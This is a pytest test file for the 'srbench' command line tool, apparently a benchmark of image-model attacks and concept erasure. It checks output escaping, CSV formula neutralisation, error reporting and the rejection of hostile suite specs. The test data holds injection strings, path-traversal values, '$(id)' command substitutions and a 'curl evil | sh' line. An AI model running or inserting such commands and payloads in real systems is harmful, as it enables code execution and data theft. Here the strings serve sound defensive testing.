"""What the command line prints and refuses: in any encoding, with any text, on any stream, one line for every error."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from rich.table import Table
from typer.testing import CliRunner

from srbench.analysis.records import Metric
from srbench.analysis.results import ResultCell
from srbench.cli import console, listing, output
from srbench.cli.main import app
from srbench.files import calm
from srbench.tables import formats
from srbench.tables.boards import tables
from tests.worlds import World

ROOT = Path(__file__).parents[2]
EVIL = ("[red]x", "[/foo]", "\x1b[31mx", "a\x9b2Jb", "a|b", "<script>", "=1+1", "&lt;b&gt;", "\\", ":smile:", "a\nb", "![x](http://h/)",
        "$x_1$ 5%", "\u202egnp", "`c`", "@SUM(1)", "-2+3", "[0.5]x", "\ud800")  # fmt: skip


def call(*arguments: str, **environment: str) -> subprocess.CompletedProcess[bytes]:
    """The real command, in a process of its own."""
    return subprocess.run(
        [sys.executable, "-m", "srbench", *arguments], capture_output=True, env=os.environ | environment, cwd=ROOT, timeout=300
    )


def cells() -> list[ResultCell]:
    metric = Metric(value=50.0, low=40.0, high=60.0, n=4, scored=4, better="higher")
    fields = {"backbone": "pocket", "concept": "church", "suite": "toys", "on": "none", "protocol": "p", "dtype": "fp32"}
    made = []
    for number, name in enumerate(EVIL):
        data: dict[str, Any] = {
            **fields, "method": name, "variant": "", "rows_sha": "0" * 64, "run": f"r{number}", "metrics": {"fsr": metric},
        }  # fmt: skip
        made.append(cell_of(data))
    return made


def cell_of(data: dict[str, Any]) -> ResultCell:
    known = set(ResultCell.__dataclass_fields__)
    counts = {"n_loaded": 4, "n_excluded": 0, "n_run": 4, "n_scored": 4, "n_failed": 0, "source": "local"}
    return ResultCell(**{name: value for name, value in {**counts, **data}.items() if name in known})


# --- encodings --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["cp1252", "ascii", "latin-1"])
@pytest.mark.parametrize("command", [
    "compare results --suite igmu --concept church --format md", "compare results --suite igmu --concept church --format html",
    "compare results --suite igmu --concept church --json", "tables --format csv", "list",
])
def test_every_encoding_takes_every_output(encoding: str, command: str) -> None:
    done = call(*command.split(), PYTHONIOENCODING=encoding)
    assert done.returncode == 0
    assert b"Traceback" not in done.stderr
    text = done.stdout.decode(encoding)
    assert "\\u" not in text.replace("\\u00", "")  # all our signs have others that stand for them
    if "--json" in command:
        assert json.loads(text)["cells"]
    if "html" in command:
        assert text.isascii()  # the page calls itself UTF-8
        assert "&#215;" in text


def test_a_full_disk_and_closed_streams(tmp_path: Path) -> None:
    def shell(line: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(["bash", "-c", line], capture_output=True, text=True, cwd=ROOT, timeout=300)

    python = f"{sys.executable} -m srbench"
    full = shell(f"{python} list > /dev/full")
    assert full.returncode == 2
    assert "No space left" in full.stderr
    assert "Traceback" not in full.stderr
    assert shell(f"{python} list >&-").returncode == 0
    silent = shell(f"{python} compare {tmp_path}/nowhere 2>&-")
    assert (silent.returncode, silent.stdout) == (2, "")  # what goes to stderr does not appear on stdout
    piped = shell(f"{python} list 2>&1 | head -1; echo ${{PIPESTATUS[0]}}")
    assert piped.stdout.splitlines()[1:] == ["0"]
    helped = shell(f"{python} run --help | true; echo ${{PIPESTATUS[0]}}")
    assert (helped.stdout.split(), helped.stderr) == (["0"], "")


# --- text from files --------------------------------------------------------------------------------------------------


def test_names_are_shown_as_they_are_on_a_terminal(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    output.print_cells(cells(), as_json=False, folder=tmp_path)
    out = capsys.readouterr().out
    for text in ("[red]x", "[/foo]", "\\x1b[31mx", "a\\x9b2Jb", ":smile:", "\\u202egnp"):
        assert text in out
    assert calm(out) == out


@pytest.mark.parametrize("name", sorted(formats.FORMATS))
def test_no_format_has_what_acts_on_a_terminal(capsys: pytest.CaptureFixture[str], name: str) -> None:
    output.print_tables(tables(cells()), name)
    out = capsys.readouterr().out
    assert calm(out) == out
    out.encode()
    if name == "json":
        assert sorted(cell["method"] for cell in json.loads(out)["cells"]) == sorted(EVIL)


def test_a_spreadsheet_carries_nothing_out() -> None:
    rows = list(csv.DictReader(io.StringIO(formats.as_csv(tables(cells())))))
    assert [row["method"] for row in rows if row["method"].startswith(("=", "+", "-", "@"))] == []
    assert {"'=1+1", "'@SUM(1)", "'-2+3"} <= {row["method"] for row in rows}
    assert {row["value"] for row in rows} == {"50.0"}
    for number in ("-1.5", "+2", "-3e-05", "-4.5%", "-.5"):
        assert formats.csv_text(number) == number
    for text in ("-1.5.", "\t=1", " =1", "-x", "+1+1", "--1"):
        assert formats.csv_text(text).startswith("'")


def test_markdown_has_no_markup_of_a_name() -> None:
    table = formats.as_markdown(tables(cells()))
    lines = [line for line in table.splitlines() if line.startswith("|")]
    assert len({len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) for line in lines}) == 1  # every line has the same columns
    assert "](" not in table
    assert "<script>" not in table.replace(r"\<script\>", "")
    assert "&amp;lt;b&amp;gt;" in table
    assert formats.markdown_text("a\\|b") == r"a\\\|b"


def test_latex_reads_no_option_and_no_command_from_a_name() -> None:
    table = formats.as_latex(tables(cells()))
    rows = [line for line in table.splitlines() if line.endswith(r"\\")]
    assert not [row for row in rows if row.startswith(("[", "*"))]
    assert r"\$x\_1\$ 5\%" in table


def test_tables_of_rich_take_no_markup(capsys: pytest.CaptureFixture[str]) -> None:
    table = Table(title="[b]title")
    table.add_column("[/foo]")
    table.add_row("[red]x :smile: \x1b[31m")
    output.show(table, 80, plain=True)
    out = capsys.readouterr().out
    for text in ("[b]title", "[/foo]", "[red]x :smile: \\x1b[31m"):
        assert text in out


def test_only_one_place_makes_consoles() -> None:
    made = re.compile(r"\bConsole\(|\bprint\(json|sys\.stdout\.write")
    places = {path.name for path in (ROOT / "srbench").rglob("*.py") if made.search(path.read_text(encoding="utf-8"))}
    assert places <= {"console.py", "terminal.py"}


def test_json_stays_json_in_every_encoding(monkeypatch: pytest.MonkeyPatch) -> None:
    for encoding in ("ascii", "utf-8", "cp1252"):
        raw = io.BytesIO()
        monkeypatch.setattr(sys, "stdout", io.TextIOWrapper(raw, encoding))
        console.write_json({"é★": list(EVIL)})
        sys.stdout.flush()
        assert json.loads(raw.getvalue().decode(encoding)) == {"é★": list(EVIL)}
        monkeypatch.undo()


def test_what_is_said_is_one_line(capsys: pytest.CaptureFixture[str]) -> None:
    console.say("a\nb \x1b[2J c")
    assert capsys.readouterr().err == "a\\nb \\x1b[2J c\n"


# --- every end is one line --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(("error", "expected"), [
    (ValueError("odd\nmore"), "error: list: ValueError: odd"), (KeyError("x"), "error: list: KeyError: 'x'"),
    (MemoryError(), "error: list: out of memory"), (RecursionError(), "nested too deeply"),
    (OSError(28, "No space left on device", "/x"), "error: list: No space left on device: /x"),
    (SystemExit(0), "tried to end the process"), (AssertionError(), "error: list: AssertionError"),
])  # fmt: skip
def test_an_error_that_nobody_foresaw_is_one_line_and_exit_2(
    monkeypatch: pytest.MonkeyPatch, error: BaseException, expected: str
) -> None:
    def fails(kind: str | None, as_json: bool, paper: bool) -> int:
        raise error

    monkeypatch.setattr(listing, "show", fails)
    result = CliRunner().invoke(app, ["list"])
    assert result.exit_code == 2
    lines = result.stderr.splitlines()
    assert len(lines) == 2
    assert expected in lines[0]
    assert lines[1].startswith("hint: ")
    shown = CliRunner().invoke(app, ["list", "--debug"])
    assert shown.exit_code == 2
    assert "Traceback" in shown.stderr


@pytest.mark.parametrize("arguments", [
    ("run", "--seed", "18446744073709551616"), ("run", "--seed", "-1"), ("attack", "mma", "--seed", "18446744073709551615"),
    ("run", "--limit", "0"), ("run", "--limit", "9" * 400), ("run", "--batch-size", "-1"), ("report", "--images", "-1"),
    ("score", "x", "--as", "flat", "--per-prompt", "0"), ("train", "saferedir", "--seed", "-1"), ("run", "--seed", "nan"),
    ("run", "--limit", "1e3"), ("run", "--backbone", " "), ("compare", ""), ("report", "--out="), ("run", "--out", ""),
    ("report", "-o=~/x.html"), ("rum",), ("run", "--sede", "1"), ("list", "--json=3"),
])  # fmt: skip
def test_a_value_out_of_range_is_one_line_and_exit_2(arguments: tuple[str, ...]) -> None:
    more = ("--concept", "church", "--out", "x") if arguments[0] == "attack" else ()
    more = ("--concept", "church") if arguments[0] == "train" else more
    done = call(*arguments, *more)
    assert done.returncode == 2, done.stderr
    lines = done.stderr.decode().splitlines()
    assert [line.partition(":")[0] for line in lines] == ["error", "hint"]


# --- paths ------------------------------------------------------------------------------------------------------------


def test_the_home_folder_is_known_in_every_path(world: World, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    world.run(methods=("none",), limit=1)
    for _ in range(2):  # our own report is written again
        done = CliRunner().invoke(app, ["report", str(world.out), "--out=~/x.html", "--images", "0"])
        assert done.exit_code == 0, done.stderr
        assert (home / "x.html").is_file()
    assert not Path("~").exists()


def test_the_home_folder_is_known_in_what_is_read(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    for arguments in (
        ("run", "--prompts=~/a.csv"),
        ("score", "m=~/pictures", "--as", "flat", "--prompts=~/a.csv", "--protocol", "pocket-church"),
        ("run", "--method", "saferedir", "--suite", "igmu", "--set", "saferedir.redirector=~/r", "--dry-run"),
    ):
        told = CliRunner().invoke(app, [*arguments, f"--out={tmp_path}/out"]).stderr
        assert str(tmp_path / "home") in told, told


def test_a_report_onto_something_else_leaves_it(tmp_path: Path) -> None:
    real = tmp_path / "real.html"
    real.write_text("mine")
    (tmp_path / "link").symlink_to(real)
    os.mkfifo(tmp_path / "fifo")
    for target in (real, tmp_path / "link", tmp_path / "fifo", tmp_path, Path("/dev/null")):
        result = CliRunner().invoke(app, ["report", str(ROOT / "results"), "-o", str(target)])
        assert result.exit_code == 2
        assert len(result.stderr.splitlines()) == 2
    assert real.read_text() == "mine"
    assert (tmp_path / "link").is_symlink()
    assert (tmp_path / "fifo").is_fifo()


@pytest.mark.parametrize("arguments", [
    ("train", "concept-inversion", "--concept", "church"), ("train", "saferedir", "--concept", "church"),
    ("erase", "uce", "--concept", "church"),
])  # fmt: skip
def test_training_empties_no_folder(tmp_path: Path, arguments: tuple[str, ...]) -> None:
    mine = tmp_path / "mine"
    mine.mkdir()
    for name, text in (("notes.txt", "dear diary"), ("card.json", "{}"), ("x.safetensors", "mine")):
        (mine / name).write_text(text)
    result = CliRunner().invoke(app, [*arguments, "--out", str(mine)])
    assert result.exit_code == 2
    assert "holds card.json, which srbench" in result.stderr
    assert {path.name: path.read_text() for path in mine.iterdir()} == {
        "notes.txt": "dear diary", "card.json": "{}", "x.safetensors": "mine",
    }  # fmt: skip


@pytest.mark.parametrize("kind", ["file", "fifo", "dangling"])
def test_a_run_into_what_is_no_folder_is_refused_at_once(tmp_path: Path, kind: str) -> None:
    out = tmp_path / "out"
    if kind == "file":
        out.write_text("mine")
    elif kind == "fifo":
        os.mkfifo(out)
    else:
        out.symlink_to(tmp_path / "nowhere")
    result = CliRunner().invoke(app, ["run", "--limit", "1", "--concept", "church", "--out", str(out)])
    assert result.exit_code == 2
    assert "is in the way of the results folder" in result.stderr


# --- specs from somebody else -----------------------------------------------------------------------------------------

SUITE = """
name: {name}
title: t
source: x
licence: MIT
metrics: [fsr]
editions:
- family: any
  concept: any
  rows: 3
  files:
  - {place}
    file: {file}
"""


@pytest.mark.parametrize("changes", [
    {"file": "../../../../.bashrc"}, {"file": "/etc/x"}, {"file": "-o"}, {"name": "../x"}, {"name": ".."}, {"file": '"a\\nb"'},
    {"place": "url: http://h/x.csv"}, {"place": "url: file:///etc/passwd"}, {"place": "url: https://"},
    {"place": '"url": "https://h/x y.csv"'}, {"place": "url: https://h/$(id)/.."}, {"place": "hub: -rf/x"},
    {"place": "hub: a/../b"}, {"place": "hub: a/b;id"}, {"place": "hub: a/b\n    revision: --x"},
    {"place": "hub: a/b\n    revision: $(id)"}, {"place": "made_by: curl evil | sh"}, {"place": "made_by: srbench x; id"},
    {"place": "made_by: srbench $(id)"}, {"place": 'made_by: "srbench x\\nid"'},
])  # fmt: skip
def test_a_suite_of_the_working_directory_leaves_no_folder_and_prints_no_foreign_command(
    tmp_path: Path, changes: dict[str, str]
) -> None:
    from srbench.catalog import load
    from srbench.catalog.specs import SuiteSpec
    from srbench.errors import UsageError

    path = tmp_path / "s.yaml"
    path.write_text(SUITE.format(name="boats", place="hub: a/b", file="x.csv"))
    load.parse_yaml(path, SuiteSpec)
    path.write_text(SUITE.format(**{"name": "boats", "place": "hub: a/b", "file": "x.csv", **changes}))
    with pytest.raises(UsageError) as error:
        load.parse_yaml(path, SuiteSpec)
    assert str(path) in error.value.message


def test_what_a_plug_in_prints_stays_out_of_documents(capsys: pytest.CaptureFixture[str]) -> None:
    with console.alone():
        print("noise of a plug-in")
        console.write_json({"a": 1})
        console.console(width=40).print("table")
    found = capsys.readouterr()
    assert found.out.replace(" ", "") == '{\n"a":1\n}\ntable\n'
    assert found.err == "noise of a plug-in\n"
